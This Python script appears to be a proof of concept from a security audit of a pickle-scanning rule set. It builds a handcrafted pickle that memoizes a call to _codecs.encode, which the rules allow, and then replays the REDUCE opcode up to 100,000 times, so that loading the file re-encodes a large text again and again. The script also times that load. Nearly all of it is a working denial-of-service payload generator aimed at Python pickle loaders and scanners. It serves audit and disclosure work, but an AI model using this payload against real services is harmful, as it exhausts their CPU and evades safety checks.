"""F4: cost amplification with allowed, linear-time operations repeated through the memo.
`_codecs.encode(text, "utf-8")` passes `cheap-codec` (linear in its input), but the call and its
arguments are memoized once and the REDUCE repeated: each 6-byte repetition re-encodes the whole
text. Same shape as RC-7 (punycode) with a codec the rules call cheap.

Usage: python f4_linear_cost_repeated.py build FILE [CHARS] [TIMES] ; ... load FILE
"""
import pickle
import struct
import sys
import time


def build(chars, times):
    text = ("\U0001F600" * chars).encode("utf-8")  # 4 bytes a character in the file
    return (
        b"\x80\x04c_codecs\nencode\n\x94"
        + b"X" + struct.pack("<I", len(text)) + text
        + b"\x8c\x05utf-8\x86\x94"
        + b"R0"
        + b"h\x00h\x01R0" * times
        + b"N."
    )


if __name__ == "__main__":
    if sys.argv[1] == "build":
        chars = int(sys.argv[3]) if len(sys.argv) > 3 else 65536
        times = int(sys.argv[4]) if len(sys.argv) > 4 else 100_000
        open(sys.argv[2], "wb").write(build(chars, times))
    else:
        data = open(sys.argv[2], "rb").read()
        start = time.monotonic()
        try:
            pickle.loads(data)
            print(f"loaded {len(data)} bytes in {time.monotonic() - start:.1f} s", flush=True)
        except Exception as e:  # noqa: BLE001
            print(f"refused after {time.monotonic() - start:.1f} s: {type(e).__name__}: {str(e)[:160]}")
